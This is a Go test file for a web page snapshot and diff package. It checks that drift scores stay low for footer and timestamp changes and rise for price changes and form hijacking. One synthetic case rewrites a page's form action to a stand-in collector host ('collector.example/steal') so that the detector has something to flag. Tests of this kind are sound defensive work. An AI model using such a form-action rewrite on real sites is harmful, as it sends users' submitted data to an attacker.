package som

import (
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// TestDiffSelfIsEmpty: a page against itself has no change and no drift.
func TestDiffSelfIsEmpty(t *testing.T) {
	for _, p := range loadCorpus(t) {
		a, _, _ := Compile(Input{HTML: p.html, URL: p.url})
		b, _, _ := Compile(Input{HTML: p.html, URL: p.url, Previous: a})
		d := Diff(a, b)
		if len(d.Changes) != 0 || d.DriftScore != 0 || d.Significance != TierNone {
			t.Errorf("%s: self diff %d changes, drift %v", p.name, len(d.Changes), d.DriftScore)
		}
	}
}

// TestDiffSynthetic runs SOM.md's synthetic suite on the real pages:
// footer-only and timestamp-only changes drift ≤ 0.10, a price ±10% ≥ 0.6,
// a form action moved to another host ≥ 0.8.
func TestDiffSynthetic(t *testing.T) {
	pages := loadCorpus(t)
	cases := []struct {
		name     string
		apply    func(*html.Node) bool
		min, max float64
	}{
		{"footer timestamp", touchFooter, 0, 0.10},
		{"footer links", func(r *html.Node) bool {
			var f *html.Node
			walkAll(r, func(n *html.Node) {
				if f == nil && ((n.DataAtom == atom.Footer && !sectioned(n)) || strings.EqualFold(attr(n, "role"), "contentinfo")) {
					f = n
				}
			})
			if f == nil {
				return false
			}
			for i := range 50 {
				prepend(f, `<a href="/f`+strings.Repeat("x", i)+`">Footer link</a><p>Updated 5 minutes ago</p>`)
			}
			return true
		}, 0, 0.10},
		{"price up 10%", func(r *html.Node) bool { return scalePrices(r, 1.10) }, 0.6, 1},
		{"price down 10%", func(r *html.Node) bool { return scalePrices(r, 0.90) }, 0.6, 1},
		{"form action host", func(r *html.Node) bool {
			for _, f := range all(r, atom.Form) {
				if invisibleUp(f) {
					continue
				}
				for i, a := range f.Attr {
					if a.Key == "action" {
						f.Attr[i].Val = "https://collector.example/steal"
						return true
					}
				}
				f.Attr = append(f.Attr, html.Attribute{Key: "action", Val: "https://collector.example/steal"})
				return true
			}
			return false
		}, 0.8, 1},
	}
	for _, tc := range cases {
		n := 0
		for _, p := range pages {
			orig, mut, ok := mutatePage(p.html, tc.apply)
			if !ok {
				continue
			}
			a, _, _ := Compile(Input{HTML: orig, URL: p.url})
			b, _, _ := Compile(Input{HTML: mut, URL: p.url, Previous: a})
			d := Diff(a, b)
			if len(d.Changes) == 0 {
				continue // the mutation touched nothing the snapshot holds (a hidden part)
			}
			n++
			if d.DriftScore < tc.min || d.DriftScore > tc.max {
				t.Errorf("%s on %s: drift %.4f outside [%.2f, %.2f]; top change %+v", tc.name, p.name, d.DriftScore, tc.min, tc.max, d.Changes[0])
			}
		}
		t.Logf("%-18s checked on %d pages", tc.name, n)
		if n == 0 {
			t.Errorf("%s: no page to check", tc.name)
		}
	}
}

func invisibleUp(n *html.Node) bool {
	for ; n != nil; n = n.Parent {
		if invisible(n) {
			return true
		}
	}
	return false
}

// scalePrices multiplies every structured price (JSON-LD, microdata content,
// Open Graph) and visible price by f.
func scalePrices(r *html.Node, f float64) bool {
	changed := false
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.DataAtom == atom.Script && strings.Contains(attr(n, "type"), "ld+json") && n.FirstChild != nil {
				if s := scaleNumbersAfter(n.FirstChild.Data, `"price"`, f); s != n.FirstChild.Data {
					n.FirstChild.Data, changed = s, true
				}
				if s := scaleNumbersAfter(n.FirstChild.Data, `"lowPrice"`, f); s != n.FirstChild.Data {
					n.FirstChild.Data, changed = s, true
				}
			}
			for i, a := range n.Attr {
				if a.Key == "content" && (hasWord(attr(n, "itemprop"), "price") || strings.HasSuffix(attr(n, "property"), "price:amount")) {
					n.Attr[i].Val = scaleNumber(a.Val, f)
					changed = true
				}
			}
		}
		if n.Type == html.TextNode && n.Parent != nil && isPriceHolder(n.Parent) && parsePrice(n.Data) != nil {
			n.Data = scaleNumber(n.Data, f)
			changed = true
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			visit(ch)
		}
	}
	visit(r)
	return changed
}

// scaleNumber multiplies the first decimal number in s by f, keeping two
// decimals.
func scaleNumber(s string, f float64) string {
	p := parsePrice("$" + strings.TrimLeft(s, " $£€"))
	if p == nil {
		return s
	}
	v, _ := amountOf(p)
	start := strings.IndexAny(s, "0123456789")
	end := start
	for end < len(s) && (s[end] >= '0' && s[end] <= '9' || s[end] == '.' || s[end] == ',') {
		end++
	}
	return s[:start] + strconv.FormatFloat(v*f, 'f', 2, 64) + s[end:]
}

// scaleNumbersAfter scales the number that follows key: in JSON text.
func scaleNumbersAfter(s, key string, f float64) string {
	var out strings.Builder
	for {
		i := strings.Index(s, key)
		if i < 0 {
			out.WriteString(s)
			return out.String()
		}
		j := i + len(key)
		for j < len(s) && (s[j] == ' ' || s[j] == ':' || s[j] == '"') {
			j++
		}
		k := j
		for k < len(s) && (s[k] >= '0' && s[k] <= '9' || s[k] == '.') {
			k++
		}
		out.WriteString(s[:j])
		if k > j {
			out.WriteString(scaleNumber(s[j:k], f))
		}
		s = s[k:]
	}
}
